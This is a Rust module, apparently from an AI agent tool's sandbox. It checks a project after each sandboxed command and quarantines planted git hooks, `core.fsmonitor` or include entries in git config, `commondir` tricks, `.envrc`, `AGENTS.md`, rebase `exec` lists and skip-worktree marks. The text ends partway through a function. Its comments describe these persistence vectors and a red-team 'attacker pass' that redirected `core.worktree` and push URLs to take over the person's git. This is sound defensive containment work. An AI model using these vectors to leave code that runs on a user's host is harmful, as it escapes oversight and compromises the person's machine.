//! What a sandboxed command may leave behind in the project that runs code later, outside any
//! sandbox: the persistence vectors of the one resource policy that no mount can cover.
//!
//! A mount cannot cover an absent name without leaving its mount point on the host, Landlock
//! cannot cover a name at all, and a mount cannot allow some names of a directory and refuse
//! others. So the project is looked at before a sandboxed command and after it (its whole tree
//! has ended by then), and what it created that is not allowed is moved to `.gg/quarantine`
//! (read-only to commands, so they cannot take it back). Nothing is deleted.
//!
//! - **Placeholders** (`.envrc`, `.vscode/`, `AGENTS.md`, … of [`sandbox::protected`]): whatever
//!   was absent and exists now.
//! - **The git directory is an allow-list**, at every depth git reads configuration from:
//!   - at its top, only what git's ordinary work writes ([`sandbox::protected::git_entry_allowed`]);
//!     anything else (`commondir`, which takes the repository's config and hooks from a planted
//!     directory; `config.worktree`) goes;
//!   - in `info/`, only [`sandbox::protected::GIT_INFO_WRITABLE`] (`attributes` there selects
//!     filter and diff drivers for every checkout);
//!   - a new git directory (`modules/<name>` from `git submodule update`, `worktrees/<name>` from
//!     `git worktree add`, or `.git` itself from `git init` in a project that had none) stays only
//!     if it is one git would have written: no configuration that runs a program (the classifier's
//!     own table, includes that cannot be read count as such), no hook but git's `*.sample`
//!     templates, no `commondir` other than a worktree's own, and the same again for every git
//!     directory nested in it.
//! - **What git runs from an existing git directory** (the top one's and each submodule's and
//!   worktree's `config`, `config.worktree` and hooks, and the work-tree files the configuration
//!   includes): read-only at the bwrap level (but the included files), writable at the landlock
//!   level and under the guard, where nothing but this comparison protects them. A
//!   configuration the command changed in a way git's ordinary work does not (deny by default:
//!   `classifier::GitConfig::changes_git_would_not_make`, so not only a program or an include
//!   but `core.worktree`, `http.*`, `url.*`, a remote's new address) is put back as it was, and
//!   a hook it made or changed (other than git's `*.sample`) is moved aside (a changed one's
//!   previous bytes put back); the command's versions go to the quarantine. A directory git
//!   writes at the top (`hooks`, `rebase-merge`, `modules`, …) made a symbolic link is moved
//!   aside and the person's put back, and a rebase or sequencer todo list the command made or
//!   changed to `exec` a command is moved aside ([`git_state`]).
//! - **The project's `.gg`** (gg's settings, policy, skills and memory): read-only at the bwrap
//!   level, writable at the landlock level, where a copy is kept before each command and `.gg`
//!   is put back as it was after it ([`Kept`]); a `.gg` too large to keep refuses the command
//!   there.
//! - **The other protected entries that exist at the top** (`AGENTS.md`, `.envrc`, `.vscode/`,
//!   `.husky/`, …): read-only binds at the bwrap level; at the landlock level each is kept and
//!   put back the same way ([`Kept::look_protected`]), and entries too large to keep refuse the
//!   command there; so are those protected anywhere that [`ProjectDirs`] knows below the top.
//! - **Below the top**, what an agent, editor or git started in a subdirectory reads
//!   ([`sandbox::protected::ProtectedPath::anywhere`]: `sub/AGENTS.md`, `sub/.envrc`, a new
//!   `sub/.git` git would not have written, or a `.git` file naming such a git directory) and a
//!   new git directory under another name (what git's own test takes for one: `HEAD` with
//!   `objects` and `refs`, or with a `commondir` naming where they are): found by
//!   [`ProjectDirs`], which keeps the session's picture of the project's directories and reads
//!   again only those inotify reports (or whose change time moved).

mod git_state;
mod gitlinks;
mod kept;
mod listing;
mod pinned_links;
mod quarantine;
mod walk;

use kept::*;
use quarantine::*;
use walk::*;

pub use walk::ProjectDirs;

use std::collections::HashMap;
use std::ffi::{OsStr, OsString};
use std::os::fd::OwnedFd;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, SystemTime};

/// The project as it was before a sandboxed command, as far as the sweep needs it.
pub struct Before {
    root: PathBuf,
    /// Placeholders that did not exist.
    absent: Vec<PathBuf>,
    /// The names at the top of a protected class that did ([`names_of_class`]).
    top_of_class: Vec<OsString>,
    /// At the bwrap level, the protected entries of two names that exist (`.github/instructions`)
    /// with their identity: the read-only mount goes with the parent when the command renames
    /// it, and the entry can then be made again under the same path.
    nested_entries: Vec<(PathBuf, (u64, u64))>,
    /// The git directory's names, `None` when `.git` was no directory.
    git: Option<GitNames>,
    /// What git runs from the top git directory and each submodule's and worktree's.
    git_files: Vec<GitFiles>,
    /// The session's picture of the directories below the top, and when the command started.
    dirs: Arc<Mutex<ProjectDirs>>,
    started: SystemTime,
    /// The project's `.gg` as it was, where the command's level lets it write there (landlock).
    gg: Option<Kept>,
    /// The other protected entries at the top as they were, at the same level ([`Kept`]).
    protected: Vec<Kept>,
    /// What the top `.git` was when it was no directory (a link or a `gitdir:` file; `None`
    /// when absent or a directory), and whether it was one.
    top_git: Option<Content>,
    top_git_was_dir: bool,
    /// Whether git took the project's root itself for a git directory.
    root_git_like: bool,
    /// The placeholders (and the way to the `core.hooksPath` directory) that were links.
    pinned: Vec<pinned_links::PinnedLink>,
    /// The top index's populated gitlinks, each with whether its `.git` was one git would have
    /// written (the person's own that was not is theirs, and not judged again).
    gitlinks: Vec<(PathBuf, bool)>,
    /// Whether the top index could be read before the command: one the command left unreadable
    /// to gg (which git may still read, entering submodules gg did not see) is moved aside.
    index_readable: bool,
    /// The top index's entries whose changes git status did not show before the command
    /// (skip-worktree, assume-unchanged): the person's own.
    hidden: Vec<PathBuf>,
    /// What listing directories noted before the command ([`listing`]).
    notes: Vec<String>,
}

struct GitNames {
    top: Vec<OsString>,
    info: Vec<OsString>,
    modules: Vec<OsString>,
    worktrees: Vec<OsString>,
    /// The top-level names of each submodule's and worktree's git directory (`modules/m`,
    /// `worktrees/w`): the same allow-list holds there (`config.worktree` written into an
    /// existing submodule's directory by a later command).
    nested_tops: Vec<(PathBuf, Vec<OsString>)>,
}

impl Before {
    /// Looks at `root` before a command; `dirs` is the session's [`ProjectDirs`].
    /// `protected_writable`: the command's level lets it write the project's `.gg` and the
    /// other protected entries at its top (the landlock level, which cannot carve them out), so
    /// a copy of each that exists is kept to put back what the command changes there; `Err`
    /// when they are too large to keep, and the command must not run at that level.
    pub fn look(
        root: &Path,
        dirs: Arc<Mutex<ProjectDirs>>,
        protected_writable: bool,
    ) -> Result<Before, String> {
        let gg = if protected_writable {
            // The last command's copy: what has not changed since is not read again.
            let last = dirs.lock().ok().and_then(|mut known| known.gg_kept.take());
            Some(Kept::look(root, last)?)
        } else {
            None
        };
        // One listing of the directories they lie in rules out the names that cannot exist;
        // only the others are `stat`ed.
        let may_exist = sandbox::protected::placeholders_that_may_exist(root);
        let absent = sandbox::protected::placeholders(root)
            .filter(|p| !may_exist.contains(p) || std::fs::symlink_metadata(p).is_err())
            .collect();
        let git_dir = root.join(".git");
        // One look at the git directory: whether it is one, and each git directory's names,
        // listed once and shared by the allow-list and the snapshot of its state
        // ([`GitFiles::look`]).
        let top_git_was_dir = std::fs::symlink_metadata(&git_dir).is_ok_and(|m| m.is_dir());
        let mut listings: Vec<(PathBuf, Option<Vec<OsString>>)> = Vec::new();
        let git: Option<GitNames> = top_git_was_dir.then(|| {
            let top_listed = listed_names(&git_dir);
            // What the listing does not hold is not there (all are looked at where it failed).
            let complete = top_listed.is_some();
            let top = top_listed.clone().unwrap_or_default();
            listings.push((git_dir.clone(), top_listed));
            let names_in = |name: &str| {
                if complete && !top.iter().any(|n| n == name) {
                    Vec::new()
                } else {
                    names(&git_dir.join(name))
                }
            };
            let modules = names_in("modules");
            let worktrees = names_in("worktrees");
            let info = names_in("info");
            let mut look_at = |dir: PathBuf| {
                let listed = listed_names(&dir);
                let top = listed.clone().unwrap_or_default();
                listings.push((dir.clone(), listed));
                (dir, top)
            };
            let nested_tops = modules
                .iter()
                .map(|n| git_dir.join("modules").join(n))
                .chain(worktrees.iter().map(|n| git_dir.join("worktrees").join(n)))
                .map(&mut look_at)
                .collect();
            GitNames {
                top,
                info,
                modules,
                worktrees,
                nested_tops,
            }
        });
        let mut git_files: Vec<GitFiles> = listings
            .iter()
            .map(|(dir, listed)| GitFiles::look(dir, listed.as_deref()))
            .collect();
        let hooks_path = dirs
            .lock()
            .ok()
            .and_then(|mut known| known.hooks_path(root));
        if let Some(hooks) = hooks_path {
            git_files.push(GitFiles::look_hooks(hooks));
        }
        // The work-tree files the configuration includes: none where the top git directory's
        // `config` and `config.worktree`, just read, are absent or regular files that do not
        // hold the word (`[include]`, `[includeIf …]`), so they are not read again to find
        // that out; any other case asks `included_configs`.
        let holds_no_include = |was: &Option<(Content, String)>| match was {
            None => true,
            Some((Content::File { bytes, .. }, _)) => !bytes
                .windows(b"include".len())
                .any(|w| w.eq_ignore_ascii_case(b"include")),
            Some(_) => false,
        };
        let no_includes = top_git_was_dir
            && git_files
                .first()
                .is_some_and(|top| top.configs.iter().all(|(_, was)| holds_no_include(was)));
        if !no_includes {
            git_files.extend(GitFiles::look_included(root));
        }
        // Built at the first sandboxed command of the session (one walk). After that, what
        // changed since the last command is taken in now (record only) where inotify says what
        // that is; without it the sweep alone tells the command's changes by their change time.
        if let Ok(mut known) = dirs.lock() {
            if !known.built || known.watching() {
                known.refresh(root, None);
            } else {
                // The nested repositories the person changed since are theirs.
                known.judge_clean(root, false);
            }
        }
        // After the picture is up to date: the entries below the top it knows are kept too.
        let protected = if protected_writable {
            let (last, below) = dirs
                .lock()
                .ok()
                .map(|mut known| {
                    let below = known.vectors_below(root);
                    (std::mem::take(&mut known.protected_kept), below)
                })
                .unwrap_or_default();
            Kept::look_protected(root, last, below)?
        } else {
            Vec::new()
        };
        // The file system's clock lags the system's by up to a tick (a few milliseconds): what
        // changed within that margin before the command counts as the command's (fail closed).
        let started = SystemTime::now() - Duration::from_millis(50);
        let top_git = (!top_git_was_dir).then(|| Content::of(&git_dir)).flatten();
        // `.git/config` as `read_text` reads it (no link followed), from the snapshot above
        // where the git directory is one; else read where it is needed.
        let top_config: Option<Option<String>> = git_files
            .first()
            .filter(|_| top_git_was_dir)
            .and_then(|files| files.configs.first())
            .map(|(_, was)| match was {
                Some((Content::File { bytes, .. }, _)) => {
                    Some(String::from_utf8_lossy(bytes).into_owned())
                }
                _ => None,
            });
        let index_before = gitlinks::index_names(
            &git_dir,
            top_config
                .as_ref()
                .map(|text| text.as_deref().unwrap_or("")),
        );
        let index_readable = index_before.is_ok();
        let gitlinks::IndexNames {
            gitlinks: gitlinks_before,
            hidden,
        } = index_before.unwrap_or_default();
        let gitlinks = gitlinks_before
            .into_iter()
            .map(|path| {
                let dot_git = root.join(path).join(".git");
                let clean = untrusted_dot_git(&dot_git, &git_dir).is_none();
                (dot_git, clean)
            })
            .collect();
        Ok(Before {
            root: root.to_path_buf(),
            absent,
            top_of_class: names_of_class(root),
            nested_entries: if protected_writable {
                // The landlock level keeps and puts back what they hold ([`Kept`]).
                Vec::new()
            } else {
                nested_entries(root)
            },
            git,
            git_files,
            dirs,
            started,
            gg,
            protected,
            top_git,
            top_git_was_dir,
            root_git_like: is_git_like(root),
            pinned: pinned_links::look(
                root,
                &may_exist,
                top_config.as_ref().map(|text| text.as_deref()),
            ),
            gitlinks,
            index_readable,
            hidden,
            notes: listing::take_notes(),
        })
    }

    /// After the command: moves aside what it created that is not allowed, and returns a line
    /// for the command's output about each.
    pub fn sweep(self) -> Vec<String> {
        const OPENS: &str = "which runs code or becomes instructions when the project is opened";
        stall_for_a_test();
        // First, so that `.gg` (and its quarantine) is gg's again before anything is moved there.
        let gg_lines = match self.gg {
            Some(kept) => {
                let lines = kept.sweep(&self.root);
                if let Ok(mut known) = self.dirs.lock() {
                    known.gg_kept = Some(kept);
                }
                lines
            }
            None => Vec::new(),
        };
        let protected_lines: Vec<String> = self
            .protected
            .iter()
            .flat_map(|kept| kept.sweep(&self.root))
            .collect();
        let kept_paths: Vec<PathBuf> = self
            .protected
            .iter()
            .map(|kept| self.root.join(&kept.rel))
            .collect();
        if let Ok(mut known) = self.dirs.lock() {
            known.protected_kept = self.protected;
        }
        // Before anything is judged: a link the command re-pointed or replaced is the person's
        // again, and what replaced it is in the quarantine.
        let pinned_lines = pinned_links::sweep(&self.root, &self.pinned);
        let git_dir = self.root.join(".git");
        // Those the listing says cannot exist now are not `stat`ed (`quarantine` skips what is
        // not there).
        let may_exist = sandbox::protected::placeholders_that_may_exist(&self.root);
        let mut created: Vec<(PathBuf, String)> = self
            .absent
            .into_iter()
            .filter(|p| may_exist.contains(p))
            .map(|p| (p, OPENS.to_string()))
            .collect();
        created.extend(
            names_of_class(&self.root)
                .into_iter()
                .filter(|name| !self.top_of_class.contains(name))
                .map(|name| (self.root.join(name), OPENS.to_string())),
        );
        for (path, was) in &self.nested_entries {
            // A link made in its place counts too.
            let there = std::fs::symlink_metadata(path).is_ok();
            if there && identity(path) != Some(*was) {
                created.push((
                    path.clone(),
                    format!(
                        "{OPENS}, made again in place of the person's (its parent directory was \
                         renamed by the command, to where the person's may still be)"
                    ),
                ));
            }
        }
        // A git directory git would not have written, with why; `worktree`: one whose
        // `commondir` may name the project's git directory.
        let untrusted = |dir: &Path, worktree: bool| {
            untrusted_git_dir(dir, worktree.then_some(git_dir.as_path()), 0)
                .map(|why| format!("a git directory git would not have written: {why}"))
        };
        match &self.git {
            Some(before) => {
                let new = |dir: PathBuf, known: &[OsString]| -> Vec<PathBuf> {
                    names(&dir)
                        .into_iter()
                        .filter(|n| !known.contains(n))
                        .map(|n| dir.join(n))
                        .collect()
                };
                let not_allowed = |allowed: fn(&str) -> bool| {
                    move |p: PathBuf| {
                        let allowed = p.file_name().and_then(|n| n.to_str()).is_some_and(allowed);
                        (!allowed).then(|| (p, OPENS.to_string()))
                    }
                };
                created.extend(
                    new(git_dir.clone(), &before.top)
                        .into_iter()
                        .filter_map(not_allowed(sandbox::protected::git_entry_allowed)),
                );
                created.extend(
                    new(git_dir.join("info"), &before.info)
                        .into_iter()
                        .filter_map(not_allowed(|n| {
                            sandbox::protected::GIT_INFO_WRITABLE.contains(&n)
                        })),
                );
                for (sub, known) in [
                    ("modules", &before.modules),
                    ("worktrees", &before.worktrees),
                ] {
                    created.extend(new(git_dir.join(sub), known).into_iter().filter_map(|dir| {
                        untrusted(&dir, sub == "worktrees").map(|why| (dir, why))
                    }));
                }
                for (dir, known) in &before.nested_tops {
                    // `hooks` and `config` are git's own too (and bubblewrap makes an empty
                    // `hooks` as a mount point when a submodule appears): judged by what they
                    // hold, as a new git directory is.
                    let sound =
                        untrusted(dir, dir.starts_with(git_dir.join("worktrees"))).is_none();
                    created.extend(new(dir.clone(), known).into_iter().filter_map(|p| {
                        let name = p.file_name().and_then(|n| n.to_str()).unwrap_or("");
                        let samples_only = || {
                            names(&p)
                                .iter()
                                .all(|n| n.to_str().is_some_and(|n| n.ends_with(".sample")))
                        };
                        let own = sandbox::protected::git_entry_allowed(name)
                            || (name == "hooks" && samples_only())
                            || (sound && name == "config");
                        (!own).then(|| (p, OPENS.to_string()))
                    }));
                }
            }
            // A `.git` the command made (`git init`) stays when git would have written it.
            None => {
                if std::fs::symlink_metadata(&git_dir).is_ok_and(|m| m.is_dir())
                    && let Some(why) = untrusted(&git_dir, false)
                {
                    created.push((git_dir.clone(), why));
                }
            }
        }
        let mut top_lines = Vec::new();
        // The top `.git` made a `gitdir:` file or a link (the git directory copied where the
        // command can shape it, given a `core.fsmonitor`, then `.git` replaced by a file naming
        // it): the person's git obeys whatever it names. What was a file or link before is put
        // back; what was a directory or absent is moved aside (a moved-away git directory
        // cannot be put back; git then finds no repository here, which runs nothing).
        if std::fs::symlink_metadata(&git_dir).is_ok_and(|m| !m.is_dir()) {
            const WHY: &str = "the project's .git, which the person's git obeys wherever it \
                               points (a gitdir: file or a link can name a git directory the \
                               command shaped)";
            let now = Content::of(&git_dir);
            match &self.top_git {
                Some(was) if now.as_ref() == Some(was) => {}
                Some(was) => top_lines.push(move_aside_and_put_back(
                    &self.root,
                    &git_dir,
                    WHY,
                    Some(was),
                )),
                None if self.top_git_was_dir => created.push((
                    git_dir.clone(),
                    format!("{WHY}, in place of the git directory"),
                )),
                None => created.push((git_dir.clone(), WHY.to_string())),
            }
        }
        // The root itself made a git directory (`HEAD`, `objects` and `refs` copied up, with
        // `core.worktree` and a `core.fsmonitor` in a `config` beside them): git takes it for
        // one when no `.git` is found. Without `HEAD` (and `commondir`) it is none.
        if !self.root_git_like && is_git_like(&self.root) {
            for name in ["HEAD", "commondir"] {
                created.push((
                    self.root.join(name),
                    "which made the project's root a git directory (HEAD with objects and refs), \
                     whose config the person's git would obey"
                        .to_string(),
                ));
            }
        }
        // What git runs from the git directories that were there is put back first, so that
        // a submodule whose config was put back is not judged by the command's version below.
        let git_files_lines: Vec<String> = self
            .git_files
            .iter()
            .flat_map(|files| files.sweep(&self.root))
            .collect();
        if let Ok(mut known) = self.dirs.lock() {
            // A kept entry below the top was put back above (a new file, so new to the walk):
            // it is the person's again, not the command's.
            let found = known.refresh(&self.root, Some(self.started));
            created.extend(
                found
                    .into_iter()
                    .filter(|(path, _)| !kept_paths.iter().any(|kept| kept == path)),
            );
        }
        // The submodules the index names, wherever they lie (in `.gg/quarantine`, in
        // `node_modules`, past the walk's limit): git status enters each populated one.
        match gitlinks::index_names(&git_dir, None) {
            Ok(names) => {
                if let Some(line) = newly_hidden(&self.hidden, &names.hidden) {
                    top_lines.push(line);
                }
                for path in names.gitlinks {
                    let dot_git = self.root.join(path).join(".git");
                    if std::fs::symlink_metadata(&dot_git).is_err() {
                        continue;
                    }
                    let was_clean = self
                        .gitlinks
                        .iter()
                        .find(|(known, _)| *known == dot_git)
                        .map(|(_, clean)| *clean);
                    // The person's own, as it was when the command started.
                    if was_clean == Some(false) {
                        continue;
                    }
                    if let Some(why) = untrusted_dot_git(&dot_git, &git_dir) {
                        created.push((
                            dot_git,
                            format!(
                                "a submodule's git directory (the index names it, so the \
                                 person's git status enters it) git would not have written: \
                                 {why}"
                            ),
                        ));
                    }
                }
            }
            // Fail closed: an index gg cannot read may be one git reads, naming a submodule
            // (a repository the command planted) that the person's git status would enter.
            // Without it git enters none; `git reset` makes it again from HEAD.
            Err(e) if self.index_readable => {
                top_lines.push(match set_aside(&self.root, &git_dir.join("index")) {
                    Ok((_, aside)) => format!(
                        "[gg: the command left the project's git index unreadable to gg ({e}); \
                         git may take it to name submodules gg did not see, whose \
                         configuration git status obeys: {} (`git reset` makes a new one \
                         from HEAD)]",
                        aside.done()
                    ),
                    Err(why) => format!(
                        "[gg: the command left the project's git index unreadable to gg ({e}), \
                         and it could not be moved aside ({why}): look at .git before \
                         running git there]"
                    ),
                })
            }
            Err(e) => top_lines.push(format!(
                "[gg: the project's git index could not be read after the command ({e}), so \
                 the submodules git status enters were not looked at: look at .git before \
                 running git there]"
            )),
        }
        let mut lines = self.notes;
        lines.extend(pinned_lines);
        lines.extend(gg_lines);
        lines.extend(protected_lines);
        lines.extend(top_lines);
        lines.extend(git_files_lines);
        lines.extend(quarantine(&self.root, &created));
        lines.extend(listing::take_notes());
        lines
    }
}

/// A line about the tracked files the command marked so that `git status` and `git diff` no
/// longer show their changes (skip-worktree, assume-unchanged: `git update-index
/// --skip-worktree`), which hides an edit of them from the person's review; `None` when it
/// marked none. Said, not undone: clearing the marks means writing git's index, which gg
/// never does for a repository a command shaped.
fn newly_hidden(before: &[PathBuf], after: &[PathBuf]) -> Option<String> {
    const SHOWN: usize = 10;
    let new: Vec<&PathBuf> = after.iter().filter(|p| !before.contains(p)).collect();
    if new.is_empty() {
        return None;
    }
    let mut names: Vec<String> = new
        .iter()
        .take(SHOWN)
        .map(|p| p.display().to_string())
        .collect();
    if new.len() > SHOWN {
        names.push(format!("and {} more", new.len() - SHOWN));
    }
    Some(format!(
        "[gg: the command marked tracked files so that git status and git diff no longer show \
         their changes (skip-worktree or assume-unchanged): {}. Their edits are hidden from \
         review until the marks are cleared: `git ls-files -v` shows them (a lower-case or S \
         tag), `git update-index --no-skip-worktree --no-assume-unchanged -- FILE` clears \
         one]",
        names.join(", ")
    ))
}

/// What git runs from an existing git directory, as it was before a command: its configuration
/// files and its hooks. The bwrap level mounts them read-only; at the landlock level a script
/// writes them (`python3 tool.py` adding `core.fsmonitor` to `.git/config` and a `pre-commit`
/// hook, which the person's next `git status` and `git commit` run), and this comparison is
/// what protects them.
struct GitFiles {
    dir: PathBuf,
    /// Where its hooks are: `dir/hooks`, or the work tree's directory `core.hooksPath` names.
    hooks_dir: PathBuf,
    /// `config` and `config.worktree`: what was there (`None`: absent) and its text (links
    /// followed, as git reads it).
    configs: Vec<(PathBuf, Option<(Content, String)>)>,
    /// The hooks other than git's `*.sample` templates (which git never runs); none when the
    /// directory was absent.
    hooks: Option<Vec<(OsString, Content)>>,
    /// For a git directory: what its top-level entries git writes were
    /// ([`git_state::look_tops`]), so that one replaced by a link is put back.
    tops: Option<Vec<(&'static str, git_state::Was)>>,
    /// For a git directory: its rebase and sequencer todo lists as they were
    /// ([`git_state::look_todos`]).
    todos: Vec<(PathBuf, Option<Content>, bool)>,
}

/// What a file was, enough to tell a change and to put it back.
#[derive(PartialEq)]
enum Content {
    File {
        bytes: Vec<u8>,
        mode: u32,
    },
    Link(PathBuf),
    /// Too large to keep, or not a file: told apart by identity only.
    Other {
        ino: u64,
        changed: Option<SystemTime>,
    },
}

/// Files larger than this are told apart by identity and cannot be put back (a git
/// configuration or hook is a few kilobytes).
const MAX_KEPT: u64 = 4 << 20;

impl Content {
    fn of(path: &Path) -> Option<Content> {
        use std::os::unix::fs::{MetadataExt, PermissionsExt};
        let meta = std::fs::symlink_metadata(path).ok()?;
        if meta.file_type().is_symlink() {
            return std::fs::read_link(path).ok().map(Content::Link);
        }
        let other = || Content::Other {
            ino: meta.ino(),
            changed: meta.created_or_changed(),
        };
        if !meta.is_file() || meta.len() > MAX_KEPT {
            return Some(other());
        }
        Some(match read_regular(path, false) {
            Ok(Some(bytes)) => Content::File {
                bytes,
                mode: meta.permissions().mode(),
            },
            _ => other(),
        })
    }

    /// Writes it back as `name` in `dir` (the directory it was moved out of, opened beneath
    /// the project without following a link), where nothing of that name may exist: the write
    /// cannot be sent elsewhere by a link, at the name or above it.
    fn put_back(&self, dir: &OwnedFd, name: &OsStr) -> std::io::Result<()> {
        use rustix::fs::{Mode, OFlags};
        use std::io::Write;
        match self {
            Content::File { bytes, mode } => {
                let fd = rustix::fs::openat(
                    dir,
                    name,
                    OFlags::WRONLY
                        | OFlags::CREATE
                        | OFlags::EXCL
                        | OFlags::NOFOLLOW
                        | OFlags::CLOEXEC,
                    Mode::from_raw_mode(*mode & 0o7777),
                )?;
                std::fs::File::from(fd).write_all(bytes)
            }
            Content::Link(target) => Ok(rustix::fs::symlinkat(target, dir, name)?),
            Content::Other { .. } => Err(std::io::Error::other("it was not kept")),
        }
    }
}

/// A configuration file as it was before a command: `None` when absent, else what it was and
/// its text (links followed, as git reads it; anything but a regular file reads as empty).
fn config_as_it_was(path: PathBuf) -> (PathBuf, Option<(Content, String)>) {
    let was = Content::of(&path).map(|content| {
        // A regular file's bytes were just read (without following a link, and it was none):
        // they are what git reads, so not read a second time.
        let text = match &content {
            Content::File { bytes, .. } => String::from_utf8_lossy(bytes).into_owned(),
            _ => {
                let bytes = read_regular(&path, true).ok().flatten().unwrap_or_default();
                String::from_utf8_lossy(&bytes).into_owned()
            }
        };
        (content, text)
    });
    (path, was)
}

impl GitFiles {
    /// `listed`: the names in `dir` from the same look (`None` when it could not be listed:
    /// then every name git writes at the top is looked at).
    fn look(dir: &Path, listed: Option<&[OsString]>) -> GitFiles {
        GitFiles {
            tops: Some(git_state::look_tops(dir, listed)),
            todos: git_state::look_todos(dir, listed),
            ..GitFiles::look_at(dir, &["config", "config.worktree"], dir.join("hooks"))
        }
    }

    /// The hooks of the directory `core.hooksPath` names in the work tree (husky's `.husky/_`),
    /// which git runs as it runs `.git/hooks`: at the bwrap level it is read-only, at the
    /// landlock level this comparison protects it.
    fn look_hooks(hooks_dir: PathBuf) -> GitFiles {
        GitFiles::look_at(&hooks_dir.clone(), &[], hooks_dir)
    }

    fn look_at(dir: &Path, config_names: &[&'static str], hooks_dir: PathBuf) -> GitFiles {
        let configs = config_names
            .iter()
            .copied()
            .map(|name| dir.join(name))
            .map(config_as_it_was)
            .collect();
        // Listed through a link, as git follows one. A hooks directory that is absent (or a
        // link that leads nowhere yet) has no hooks: whatever appears there is the command's
        // (husky's `.husky/_` before `npm install`, `.git/hooks` replaced by a dangling link
        // that a later command fills).
        let hooks = Some(
            hook_names(&hooks_dir)
                .into_iter()
                .filter_map(|name| Some((name.clone(), Content::of(&hooks_dir.join(&name))?)))
                .collect(),
        );
        GitFiles {
            dir: dir.to_path_buf(),
            hooks_dir,
            configs,
            hooks,
            tops: None,
            todos: Vec::new(),
        }
    }

    /// The work-tree files the repository's configuration includes
    /// (`sandbox::protected::included_configs`): git obeys them as it obeys `.git/config`, and
    /// no mount covers them at either level, so each is compared as a config is; one absent
    /// before that the command made to run a program is moved aside.
    fn look_included(root: &Path) -> Option<GitFiles> {
        let included = sandbox::protected::included_configs(root);
        (!included.is_empty()).then(|| GitFiles {
            dir: root.to_path_buf(),
            hooks_dir: root.join(".git").join("hooks"),
            configs: included.into_iter().map(config_as_it_was).collect(),
            hooks: None,
            tops: None,
            todos: Vec::new(),
        })
    }

    /// After the command: puts back what it made a link at the top of a git directory and
    /// moves aside a todo list that runs a command ([`git_state`]), puts back a configuration
    /// it changed in a way git's ordinary work does not ([`unexplained_change`]), and moves
    /// aside the hooks it made or changed; a line about each.
    fn sweep(&self, root: &Path) -> Vec<String> {
        let mut lines = Vec::new();
        // First: a linked `hooks` is made the person's directory again before its hooks are
        // compared, and a linked `rebase-merge` is gone before its todo list is read.
        if let Some(tops) = &self.tops {
            lines.extend(git_state::sweep_top_links(
                root,
                &self.dir,
                tops,
                self.hooks.as_deref(),
            ));
        }
        lines.extend(git_state::sweep_todos(root, &self.todos));
        let mut restore = |path: PathBuf, why: String, before: Option<&Content>| {
            lines.push(move_aside_and_put_back(root, &path, &why, before));
        };
        for (path, was) in &self.configs {
            let path = path.clone();
            // An absent one that appears is the allow-list's (a new name) in the git
            // directory; an included work-tree file made with what git would not write goes.
            let Some((content, text)) = was else {
                if self.hooks.is_none()
                    && let Ok(Some(bytes)) = read_regular(&path, true)
                    && let Some(why) = unexplained_change("", &String::from_utf8_lossy(&bytes))
                {
                    restore(path, why, None);
                }
                continue;
            };
            let now = match Content::of(&path) {
                Some(now) if now != *content => now,
                _ => continue,
            };
            // A file made a symbolic link (into the work tree, where the file tools and later
            // commands write without a check) is put back whatever it says now.
            if matches!(now, Content::Link(_)) && !matches!(content, Content::Link(_)) {
                restore(
                    path,
                    "git's configuration replaced by a symbolic link".to_string(),
                    Some(content),
                );
                continue;
            }
            // Read as git reads it (links followed), but never a FIFO, which would block
            // this process for good: the command has ended, so no timeout covers the sweep.
            let now_text = match read_regular(&path, true) {
                Ok(bytes) => String::from_utf8_lossy(&bytes.unwrap_or_default()).into_owned(),
                Err(what) => {
                    restore(
                        path,
                        format!("git's configuration replaced by {what}"),
                        Some(content),
                    );
                    continue;
                }
            };
            if let Some(why) = unexplained_change(text, &now_text) {
                restore(path, why, Some(content));
            }
        }
        if let Some(hooks) = &self.hooks {
            let hooks_dir = &self.hooks_dir;
            // The project's own `.git/hooks` with neither it nor `.git` a link (as git makes
            // them) lies strictly below the project and the git directory, so it cannot lead
            // to either: told by two `lstat`s instead of resolving three paths.
            let plainly_below = self.dir == root.join(".git")
                && *hooks_dir == self.dir.join("hooks")
                && [&self.dir, hooks_dir]
                    .iter()
                    .all(|path| std::fs::symlink_metadata(path).is_ok_and(|m| m.is_dir()));
            // A hooks directory that now leads to the project itself, the git directory or
            // above (`.git/hooks -> ..`): its entries are the person's files, not hooks, and
            // moving them aside emptied the project. Nothing is moved through it; a link is
            // removed (itself, not what it names), so git finds no hooks there.
            if let Some(real) = (!plainly_below)
                .then(|| std::fs::canonicalize(hooks_dir).ok())
                .flatten()
                .filter(|real| {
                    std::fs::canonicalize(root).is_ok_and(|r| r.starts_with(real))
                    // The git directory's own `hooks` (a `core.hooksPath` directory is its
                    // own `dir`, which it always lies at).
                    || (self.dir != *hooks_dir
                        && std::fs::canonicalize(&self.dir).is_ok_and(|d| d.starts_with(real)))
                })
            {
                let is_link =
                    std::fs::symlink_metadata(hooks_dir).is_ok_and(|m| m.file_type().is_symlink());
                let done = if is_link && std::fs::remove_file(hooks_dir).is_ok() {
                    "the link was removed; nothing was moved through it"
                } else {
                    "nothing was moved through it: look at it"
                };
                lines.push(format!(
                    "{}: git's hooks directory leads to {}, which holds the project; {done}",
                    hooks_dir.display(),
                    real.display()
                ));
                return lines;
            }
            for name in hook_names(hooks_dir) {
                let path = hooks_dir.join(&name);
                let before = hooks.iter().find(|(n, _)| *n == name).map(|(_, c)| c);
                let same = before.is_some_and(|before| Content::of(&path).as_ref() == Some(before));
                if !same {
                    restore(path, "a hook git runs on the host".to_string(), before);
                }
            }
        }
        lines
    }
}

/// The names in a hooks directory that git may run: all but its `*.sample` templates.
fn hook_names(hooks: &Path) -> Vec<OsString> {
    listing::read_dir(hooks)
        .map(|entries| {
            entries
                .flatten()
                .map(|e| e.file_name())
                .filter(|n| !n.to_str().is_some_and(|n| n.ends_with(".sample")))
                .collect()
        })
        .unwrap_or_default()
}

/// Why the configuration `now` is not what git's ordinary work makes of `before` (deny by
/// default, [`classifier::GitConfig::changes_git_would_not_make`]): an include (git writes
/// none; one naming a work-tree file could be rewritten by any later command), an entry that
/// runs a program by the classifier's table, or any other key git does not change there in its
/// ordinary work (an attacker pass kept `core.worktree = ../../home`, `http.proxy`,
/// `url.<x>.insteadOf` and `remote.origin.pushurl`, none a program: the person's next `git
/// stash` wrote their home, their next push went to the attacker). Compared by entry, so that
/// git's own changes (`git remote add`, `git branch -u`, `git config user.name`) keep the
/// person's own pager or proxy from counting.
fn unexplained_change(before: &str, now: &str) -> Option<String> {
    // At most this many keys are named: a command can add thousands, and the line goes to the
    // model.
    const NAMED: usize = 8;
    let changed = classifier::GitConfig::changes_git_would_not_make(before, now);
